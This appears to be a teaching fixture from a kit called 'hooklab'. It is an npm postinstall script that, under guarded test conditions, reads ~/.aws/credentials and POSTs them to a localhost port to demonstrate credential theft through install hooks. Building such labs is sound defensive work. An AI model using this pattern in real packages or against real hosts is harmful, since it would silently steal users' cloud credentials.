// HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
'use strict';
const fs = require('fs');
const path = require('path');
const http = require('http');

const canaryDir = process.env.HOOKLAB_CANARY_DIR;
const port = Number(process.env.HOOKLAB_CANARY_PORT);
const home = process.env.HOME || '';
// Nothing happens unless the kit set the stage: a canary dir, a port, and a home it marked fake.
if (canaryDir && port && fs.existsSync(path.join(home, '.hooklab-fake-home'))) {
  fs.writeFileSync(path.join(canaryDir, `npm-postinstall.${process.pid}.marker`), 'postinstall ran\n'); // hooklab:payload
  let loot = '';
  try {
    loot = fs.readFileSync(path.join(home, '.aws', 'credentials'), 'utf8');
  } catch (err) {
    loot = `no credentials: ${err.code}`;
  }
  const req = http.request({ host: '127.0.0.1', port, path: '/npm-postinstall', method: 'POST' });
  req.on('error', () => {});
  req.end(loot);
}
